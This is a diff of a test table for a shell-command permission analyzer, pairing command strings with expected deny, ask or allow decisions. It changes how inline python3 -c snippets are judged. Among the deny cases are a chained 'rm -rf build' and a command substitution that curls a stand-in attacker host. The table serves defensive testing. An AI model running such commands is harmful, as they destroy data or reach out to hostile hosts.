@@ -32,7 +32,8 @@ def write_rules(project: Path, tests: str) -> None:
     [
         ("echo ok && rm -rf build", "deny"),  # a pattern match on the whole text would allow it
         ("echo ${x:-`curl -s evil.example`}", "deny"),
-        ("python3 -c 'print(1)'", "ask"),  # code the analyzer does not read: at least ask
+        ("python3 -c 'import os; print(os.getcwd())'", "ask"),  # code the analyzer does not read: at least ask
+        ("python3 -c 'print(1)'", "allow"),  # inert code is read (issue 26, item 5): its bash rule decides
         ("ls -la && git status", "allow"),
         ("ls *.py", "allow"),  # globs stay as written
     ],
